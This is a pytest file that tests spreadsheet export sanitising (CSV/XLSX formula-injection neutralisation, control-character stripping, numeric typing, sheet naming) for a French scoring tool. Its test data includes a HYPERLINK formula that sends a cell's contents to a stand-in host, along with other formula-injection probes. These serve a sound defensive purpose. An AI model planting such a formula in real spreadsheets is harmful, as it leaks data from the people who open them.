"""Spreadsheet exports: no live formula, no control character, numbers kept numeric, accents kept."""

import datetime as dt
import io
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from helpers import BRICKS

from tpt_model import Catalogue
from tpt_model.evaluation.scoring import REFERENCE_EVALUATOR, evaluate
from tpt_model.evaluation.sheets import ScoreSheet
from tpt_model.export.tabular import (
    aggregate_frame,
    evaluation_file_name,
    evaluation_frame,
    safe_cell,
    to_csv_bytes,
    to_xlsx_bytes,
)

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")'
BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("\x00=1+1", "'=1+1"),  # a control character must not hide the formula sign
        ("Mentorat à 50 %", "Mentorat à 50 %"),
        ("a\x00b\x07c\x1fd", "abcd"),
        ("ligne 1\nligne 2", "ligne 1\nligne 2"),
        ("", ""),
    ],
)
def test_safe_cell_neutralises_text(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (3, 3),
        (-2, -2),
        (2.5, 2.5),
        (True, True),
        (None, None),
        (float("nan"), None),
        (pd.NA, None),
        (np.int64(4), 4),
        (np.float64(-1.5), -1.5),
    ],
)
def test_safe_cell_keeps_numbers_numeric(value: Any, expected: Any) -> None:
    result = safe_cell(value)
    assert result == expected and type(result) is type(expected)


def test_safe_cell_drops_the_time_zone() -> None:
    paris = dt.timezone(dt.timedelta(hours=1))
    assert safe_cell(dt.datetime(2026, 3, 8, 10, 0, tzinfo=paris)) == dt.datetime(2026, 3, 8, 9, 0)


def sample() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Brique": [HYPERLINK, "Atelier d'été", "@SUM(A1)"],
            "Note": [3, -2, 4],
            "Moyenne": [2.5, None, 3.25],
            "Commentaire": ["+1", "Collé\x0bdepuis\x00Word", None],
            "À discuter": [True, False, True],
        }
    )


def open_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_cells_are_safe_and_typed() -> None:
    ws = open_xlsx(to_xlsx_bytes({"Notes": sample()}))["Notes"]
    assert [c.value for c in ws[1]] == ["Brique", "Note", "Moyenne", "Commentaire", "À discuter"]
    # Text cells: shown as typed, without the apostrophe CSV needs, and never run as formulas.
    assert ws["A2"].value == HYPERLINK and ws["A2"].data_type == "s"
    assert ws["A2"].quotePrefix
    assert ws["A4"].value == "@SUM(A1)"
    assert ws["D2"].value == "+1"
    assert ws["D3"].value == "CollédepuisWord"
    assert (ws["B3"].value, ws["B3"].data_type) == (-2, "n")
    assert (ws["C2"].value, ws["C2"].data_type) == (2.5, "n")
    assert ws["C3"].value is None
    assert ws["E2"].value is True
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_xlsx_layout() -> None:
    ws = open_xlsx(to_xlsx_bytes({"Notes": sample()}))["Notes"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width == len(HYPERLINK) + 2
    assert ws.column_dimensions["B"].width == 8  # a narrow column keeps a readable minimum


def test_xlsx_sheet_names_are_valid_and_unique() -> None:
    frame = pd.DataFrame({"a": [1]})
    names = open_xlsx(
        to_xlsx_bytes({"Notes/2026: v1?": frame, "Notes\\2026* v1[": frame, "x" * 40: frame})
    ).sheetnames
    assert names == ["Notes 2026  v1", "Notes 2026  v1 (2)", "x" * 31]


def test_xlsx_of_no_frame_is_still_a_workbook() -> None:
    assert open_xlsx(to_xlsx_bytes({})).sheetnames == ["Feuille"]


def test_csv_starts_with_the_bom_and_keeps_accents() -> None:
    data = to_csv_bytes(sample())
    assert data.startswith(BOM)
    lines = data[len(BOM) :].decode("utf-8").split("\r\n")
    assert lines[0] == "Brique;Note;Moyenne;Commentaire;À discuter"
    assert lines[1] == '"\'=HYPERLINK(""http://exemple.invalid/?d=""&A1,""Cliquez"")";3;2,5;\'+1;oui'
    assert lines[2] == "Atelier d'été;-2;;CollédepuisWord;non"
    assert lines[3] == "'@SUM(A1);4;3,25;;oui"


def test_evaluation_frame_rows_and_columns(catalogue: Catalogue) -> None:
    sheets = [
        ScoreSheet(brick="mentorat", evaluator="Zoé", scores={"pertinence": 1}, comment="=1+1"),
        ScoreSheet(brick="mentorat", evaluator="Léa", scores={"pertinence": 4, "simplicite": 2}),
    ]
    results = evaluate(catalogue, BRICKS, sheets, include_reference=False)
    frame = evaluation_frame(catalogue, results, sheets, include_reference=False)
    assert list(frame.columns) == [
        "Rang",
        "Brique",
        "Identifiant",
        "Volet",
        "Évaluatrice",
        "Pertinence",
        "Simplicité de mise en œuvre",
        "Caractère abordable",
        "Commentaire",
        "Pertinence (moyenne)",
        "Simplicité de mise en œuvre (moyenne)",
        "Caractère abordable (moyenne)",
        "Total pondéré",
        "Évaluatrices",
        "À discuter",
    ]
    rows = frame[["Identifiant", "Évaluatrice", "Pertinence", "Pertinence (moyenne)", "À discuter"]]
    assert rows.astype(object).where(rows.notna(), None).values.tolist() == [
        ["mentorat", "Léa", 4, 2.5, True],
        ["mentorat", "Zoé", 1, 2.5, True],
        ["atelier-classe", None, None, None, False],  # unscored bricks keep one row
        ["ordinateur", None, None, None, False],
    ]
    ws = open_xlsx(to_xlsx_bytes({"Notes": frame}))["Notes"]
    assert ws["I3"].value == "=1+1"  # Zoé's comment, as she typed it
    assert (ws["F2"].value, ws["F2"].data_type) == (4, "n")


def test_evaluation_frame_with_reference(catalogue: Catalogue) -> None:
    results = evaluate(catalogue, BRICKS, [], include_reference=True)
    frame = evaluation_frame(catalogue, results, [])
    assert frame["Évaluatrice"].tolist() == [REFERENCE_EVALUATOR] * 3
    assert frame["Rang"].tolist() == [1, 1, 3]


def test_aggregate_frame(catalogue: Catalogue) -> None:
    sheets = [
        ScoreSheet(brick="mentorat", evaluator="Léa", scores={"pertinence": 1}),
        ScoreSheet(brick="mentorat", evaluator="Inès", scores={"pertinence": 4}),
    ]
    frame = aggregate_frame(catalogue, evaluate(catalogue, BRICKS, sheets, include_reference=True))
    assert len(frame) == 9  # three bricks × three criteria
    row = frame[(frame["Brique"] == "Mentorat en ligne") & (frame["Critère"] == "Pertinence")].iloc[0]
    assert (row["Notes"], row["Moyenne"], row["Minimum"], row["Maximum"], row["Écart (niveaux)"]) == (
        3,
        3.0,
        1,
        4,
        3,
    )
    assert row["Désaccord"]


@pytest.mark.parametrize(
    ("name", "file_name"),
    [("Parcours GT1 (été)", "evaluation-parcours-gt1-ete.xlsx"), ("***", "evaluation-scenario.xlsx")],
)
def test_evaluation_file_name(name: str, file_name: str) -> None:
    assert evaluation_file_name(name, "xlsx") == file_name
